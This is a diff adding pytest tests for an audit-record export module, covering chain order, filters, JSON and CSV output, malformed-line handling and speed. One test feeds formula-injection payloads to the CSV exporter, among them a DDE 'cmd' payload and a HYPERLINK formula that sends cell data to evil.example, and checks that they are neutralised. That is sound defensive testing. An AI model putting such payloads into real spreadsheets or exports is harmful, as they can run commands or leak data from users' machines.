@@ -1,0 +1,198 @@
+"""Exporting audit records: all that fit, in the order of the chain, harmless to spreadsheets."""
+
+import csv
+import io
+import json
+from collections.abc import Iterable
+from dataclasses import replace
+from datetime import UTC, datetime
+from time import process_time
+from typing import Any
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from datasphere_glue.errors import CredentialsRejected, Unavailable
+from datasphere_glue.evidence.export import COLUMNS, Wanted, as_array, as_csv, exported
+from datasphere_glue.evidence.recorder import Ledger
+from datasphere_glue.evidence.verify import verify
+from datasphere_glue.outcome.run import Run
+from datasphere_glue.plan.change import Action
+from datasphere_glue.storage.store import json_lines
+from tests.unit.evidence.audit_trails import left_by
+from tests.unit.storage.stores import MemoryStore
+from tests.unit.words import FACTS, table_change
+
+
+@pytest.fixture
+def store() -> MemoryStore:
+    """Return the trail of three nights and of a person, and a record from before the chain."""
+    kept = MemoryStore()
+    old = {"run_id": "old", "started": "2026-11-01T01:00:00+00:00", "event": "change"}
+    kept.put("runs/old/audit.jsonl", json_lines([old | {"space": "SALES", "asset": "V_ORDERS"}]))
+    left_by(kept, "z-first", table_change(Action.CREATE), started="2026-11-20T01:00:00+00:00")
+    left_by(kept, "second", table_change(space="HR"), started="2026-11-21T23:30:00-02:00")
+    left_by(kept, "quiet", started="2026-11-22T12:00:00+00:00")
+    facts = replace(FACTS, run_id="refused", started="2026-11-23T01:00:00", actor="arn:user/jane")
+    Ledger().after(kept, "refused", Run("sync", error=CredentialsRejected("no")), facts)
+    return kept
+
+
+def told(records: Iterable[dict[str, Any]]) -> list[tuple[str, str]]:
+    return [(record["run_id"], record["event"]) for record in records]
+
+
+def day(number: int) -> datetime:
+    return datetime(2026, 11, number, tzinfo=UTC)
+
+
+ALL = [
+    ("old", "change"),
+    ("z-first", "run"),
+    ("z-first", "change"),
+    ("second", "run"),
+    ("second", "change"),
+    ("quiet", "run"),
+    ("refused", "run"),
+    ("refused", "security"),
+]
+
+
+def test_records_come_in_the_order_of_the_chain_with_their_place(store: MemoryStore) -> None:
+    records = list(exported(store, Wanted()))
+
+    assert told(records) == ALL
+    assert [record["link"] for record in records] == [None, 2, 2, 4, 4, 5, 6, 6]
+    assert [record["line"] for record in records] == [1, 1, 2, 1, 2, 1, 1, 2]
+    assert records[2]["file"] == "runs/z-first/audit.jsonl"
+
+
+@pytest.mark.parametrize(
+    ("wanted", "runs"),
+    [
+        (Wanted(run="second"), ["second", "second"]),
+        (Wanted(run="sec"), []),
+        (Wanted(events=frozenset({"security"})), ["refused"]),
+        (Wanted(spaces=frozenset({"HR", "SALES"})), ["old", "z-first", "second"]),
+        (Wanted(asset="V_ORD*"), ["old", "z-first", "second"]),
+        (Wanted(asset="HR.*"), ["second"]),
+        (Wanted(asset="v_orders"), []),
+        (Wanted(actions=frozenset({"create"})), ["z-first"]),
+        (Wanted(actor="*jane"), ["refused", "refused"]),
+        (Wanted(since=day(22)), ["second", "second", "quiet", "refused", "refused"]),
+        (Wanted(until=day(22)), ["old", "z-first", "z-first"]),
+        (Wanted(since=day(20), until=day(21)), ["z-first", "z-first"]),
+        (Wanted(since=day(20), events=frozenset({"change"})), ["z-first", "second"]),
+    ],
+)
+def test_filters_leave_out_the_rest(store: MemoryStore, wanted: Wanted, runs: list[str]) -> None:
+    assert [record["run_id"] for record in exported(store, wanted)] == runs
+
+
+def test_lines_and_an_array_hold_the_same(store: MemoryStore) -> None:
+    records = list(exported(store, Wanted()))
+    lines = b"".join(json_lines(records)).decode()
+
+    assert [json.loads(line) for line in lines.splitlines()] == records
+    assert json.loads(b"".join(as_array(records))) == records
+    assert json.loads(b"".join(as_array([]))) == []
+    assert json.loads(b"".join(as_array(records[:1]))) == records[:1]
+
+
+def rows(records: Iterable[dict[str, Any]]) -> list[dict[str, str]]:
+    text = b"".join(as_csv(records)).decode()
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def test_csv_has_a_column_for_every_key(store: MemoryStore) -> None:
+    records = list(exported(store, Wanted()))
+    found = rows(records)
+
+    assert {key for record in records for key in record} <= set(COLUMNS)
+    assert len(set(COLUMNS)) == len(COLUMNS)
+    assert [row["run_id"] for row in found] == [run for run, _ in ALL]
+    assert found[2]["verified"] == "true"
+    assert found[4]["asset"] == "V_ORDERS"
+    assert json.loads(found[4]["fields"])[0]["after"] == "Sales orders"
+    assert json.loads(found[-1]["error"])["code"] == "CREDENTIALS_REJECTED"
+    assert found[0]["hash"] == ""
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "=cmd|' /C calc'!A0",
+        "+1+1",
+        "-2+3",
+        "@SUM(A1)",
+        "\t=1",
+        "\r=1",
+        "\n=1",
+        "\uff1d1+1",
+        " =1+1",
+        "  \t=1",
+        "\u3000=1",
+        "\xa0@SUM(A1)",
+        "\ufeff=1",
+        "\u200b+1",
+        "\x00=1",
+        "\x0b-1",
+        "\ufe66",
+        "\ufe6bSUM(A1)",
+        " \uff0b1",
+        '=HYPERLINK("https://evil.example?"&A1,"x")',
+    ],
+)
+def test_no_cell_can_act_as_a_formula(text: str) -> None:
+    (row,) = rows([{"reason": text, "actor": text, "event": "change"}])
+
+    assert row["reason"] == row["actor"] == f"'{text}"
+
+
+@given(st.text())
+def test_a_text_comes_back_from_csv_as_it_was(text: str) -> None:
+    (row,) = rows([{"reason": text}])
+
+    assert row["reason"].removeprefix("'") == text.removeprefix("'")
+    assert not row["reason"].startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        b"no json",
+        b"[]",
+        b'{"event": "run"}',
+        b'{"event": 1, "started": "2026-11-01"}',
+        b'{"event": "run", "started": "2026-11-01", "actor": 7}',
+        b'{"event": "run", "started": "2026-11-01", "space": ["SALES"]}',
+        b"[" * 100_000,
+    ],
+)
+def test_a_line_that_is_no_record_is_told_with_its_place(store: MemoryStore, line: bytes) -> None:
+    store.bodies["runs/quiet/audit.jsonl"] += line + b"\n"
+
+    with pytest.raises(Unavailable, match=r"line 2 of memory:runs/quiet/audit\.jsonl") as error:
+        list(exported(store, Wanted(actor="*", spaces=frozenset({"SALES"}))))
+    assert "audit verify" in error.value.remedy
+
+
+def test_ten_thousand_records_are_verified_and_exported_in_a_moment() -> None:
+    store = MemoryStore()
+    for night in range(20):
+        changes = (table_change(name=f"v_{n}", space=f"S{n % 7}") for n in range(500))
+        left_by(store, f"night-{night}", *changes, started=f"2026-11-{night + 1:02}T01:00:00Z")
+
+    began = process_time()
+    assert verify(store).records == 10_020
+    verified = process_time()
+    wanted = Wanted(since=day(11), spaces=frozenset({"S3"}), asset="*.V_1*")
+    chosen = list(rows(exported(store, wanted)))
+    everything = sum(1 for _ in as_csv(exported(store, Wanted())))
+    ended = process_time()
+
+    assert len(chosen) == 10 * len([n for n in range(500) if n % 7 == 3 and f"{n}"[0] == "1"])
+    assert everything == 10_021
+    assert verified - began < 5
+    assert ended - verified < 8
